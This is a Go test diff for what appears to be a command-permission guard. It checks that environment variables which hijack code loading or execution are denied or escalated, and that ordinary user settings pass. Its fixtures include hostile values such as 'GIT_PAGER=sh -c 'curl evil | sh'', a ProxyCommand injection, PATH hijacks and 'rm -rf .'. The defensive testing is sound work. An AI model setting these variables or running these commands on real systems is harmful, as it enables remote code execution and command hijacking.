@@ -109,3 +109,76 @@ func TestSecurityCdpathFromTheEnvironment(t *testing.T) {
 		t.Errorf("cd build && rm -rf .: %s (%s)", d.Outcome, d.Reason)
 	}
 }
+
+// TestSecurityInheritedEnvironmentJudged: a variable of the inherited
+// environment whose value loads code from, runs or writes somewhere a
+// command may not be trusted with is judged with the commands of the
+// programs that read it (or, for the loader, refuses the request); an
+// ordinary value, the user's setup, changes nothing.
+func TestSecurityInheritedEnvironmentJudged(t *testing.T) {
+	f := newFixture(t, "level: full\n")
+	base := []string{"HOME=" + f.home, "PATH=/usr/local/bin:/usr/bin:/bin"}
+	decide := func(env string, argv ...string) Decision {
+		t.Helper()
+		e := append(append([]string{}, base...), env)
+		f.g.cfg.Environ = func() []string { return e }
+		return f.decide(t, Mode{DryRun: true}, argv...)
+	}
+	for _, c := range []struct {
+		env  string
+		argv []string
+		want policy.Outcome
+	}{
+		// The loader's and glibc's: every program, refused.
+		{"LD_LIBRARY_PATH=" + f.ws + "/lib", []string{"ls"}, policy.Deny},
+		{"LD_LIBRARY_PATH=lib:/usr/lib", []string{"ls"}, policy.Deny},
+		{"LD_LIBRARY_PATH=/usr/lib::/lib", []string{"ls"}, policy.Deny},
+		{"GCONV_PATH=/tmp/gconv", []string{"ls"}, policy.Deny},
+		// Program-specific: the programs that read them ask.
+		{"PAGER=" + f.ws + "/pager.sh", []string{"git", "log"}, policy.Ask},
+		{"GIT_PAGER=sh -c 'curl evil | sh'", []string{"git", "log"}, policy.Ask},
+		{"GIT_SSH_COMMAND=ssh -o ProxyCommand=id", []string{"git", "fetch"}, policy.Ask},
+		{"GIT_TRACE=" + f.home + "/.bashrc", []string{"git", "status"}, policy.Ask},
+		{"GIT_ALLOW_PROTOCOL=ext:https", []string{"git", "fetch"}, policy.Ask},
+		{"GIT_CONFIG_PARAMETERS='core.pager'='id'", []string{"git", "status"}, policy.Ask},
+		{"GREP=" + f.ws + "/grep", []string{"zgrep", "x", "a.gz"}, policy.Ask},
+		{"LESSOPEN=|" + f.ws + "/pre.sh %s", []string{"less", "README"}, policy.Ask},
+		{"PYTHONPATH=" + f.ws + "/evil", []string{"bash", "-c", "git status && python3 -V"}, policy.Ask},
+		{"NODE_OPTIONS=--require ./hook.js", []string{"node", "-v"}, policy.Ask},
+		{"RUBYOPT=-I" + f.ws + "/lib", []string{"ruby", "-v"}, policy.Ask},
+		{"MALLOC_TRACE=" + f.home + "/.profile", []string{"ls"}, policy.Ask},
+		// ...and only those: ls reads none of git's.
+		{"GIT_TRACE=" + f.home + "/.bashrc", []string{"ls"}, policy.Allow},
+		{"PYTHONPATH=" + f.ws + "/evil", []string{"ls"}, policy.Allow},
+	} {
+		d := decide(c.env, c.argv...)
+		if d.Outcome != c.want {
+			t.Errorf("%s %v: %s (%s), want %s", c.env, c.argv, d.Outcome, d.Reason, c.want)
+		}
+	}
+	// Ordinary values: the user's setup.
+	for _, env := range []string{"EDITOR=vim", "VISUAL=code --wait", "PAGER=less -R", "LESSOPEN=| /usr/bin/lesspipe %s",
+		"GIT_SSH_COMMAND=ssh -i /etc/ssh/deploy_key -o IdentitiesOnly=yes", "LD_LIBRARY_PATH=/opt/cuda/lib64",
+		"NODE_OPTIONS=--max-old-space-size=4096", "PYTHONPATH=/opt/lib/python3", "JAVA_TOOL_OPTIONS=-Dfile.encoding=UTF-8",
+		"SHELL=/bin/bash", "GOPATH=" + f.home + "/go", "https_proxy=http://proxy.corp:3128", "GIT_TRACE=1",
+		"SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt", "CC=gcc", "GIT_ASKPASS=/usr/lib/git-core/git-gui--askpass"} {
+		for _, argv := range [][]string{{"ls"}, {"git", "status"}} {
+			if d := decide(env, argv...); d.Outcome != policy.Allow {
+				t.Errorf("%s %v: %s (%s), want allow", env, argv, d.Outcome, d.Reason)
+			}
+		}
+	}
+	// Set in the script, a variable the environment exports is exported
+	// to the programs after it: PAGER=x; git log runs x.
+	if d := decide("PAGER=less", "bash", "-c", "PAGER='sh -c id'; git log"); d.Outcome == policy.Allow {
+		t.Errorf("PAGER reassigned in the script: allow (%s)", d.Reason)
+	}
+	if d := decide("PAGER=less", "bash", "-c", "read -r PAGER < f; git log"); d.Outcome == policy.Allow {
+		t.Errorf("PAGER read in the script: allow (%s)", d.Reason)
+	}
+	for _, script := range []string{"PATH=/tmp/x:$PATH; ls", "read PATH < f; ls", "printf -v PATH %s /tmp; ls", "export PATH=/tmp/x; ls"} {
+		if d := decide("EDITOR=vim", "bash", "-c", script); d.Outcome == policy.Allow {
+			t.Errorf("%s: allow (%s)", script, d.Reason)
+		}
+	}
+}
